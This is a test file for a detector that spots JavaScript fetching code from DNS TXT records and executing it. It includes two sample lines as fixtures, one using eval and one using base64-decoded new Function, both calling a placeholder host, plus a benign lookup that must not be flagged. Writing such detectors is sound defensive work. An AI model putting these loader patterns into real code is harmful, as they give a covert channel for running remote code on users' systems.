import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './dns-to-code.ts';

describe('dns-to-code', () => {
  it('catches code from a TXT record', async () => {
    const lures = [
      `const dns = require('dns'); dns.resolveTxt('t.fixture.invalid', (e, r) => { eval(r.flat().join('')); });`,
      `import { resolveTxt } from 'node:dns/promises'; const r = await resolveTxt('t.fixture.invalid'); new Function(Buffer.from(r[0].join(''), 'base64').toString())();`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.mjs': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('twin: a lookup that is compared', async () => {
    expect(
      await hitsOf(detector, {
        'a.js': `const dns = require('dns'); dns.resolveTxt('x.example', (e, r) => { if (r.flat().includes('v=1')) console.log('ok'); }); eval('1')`,
      }),
    ).toEqual([]);
  });
});
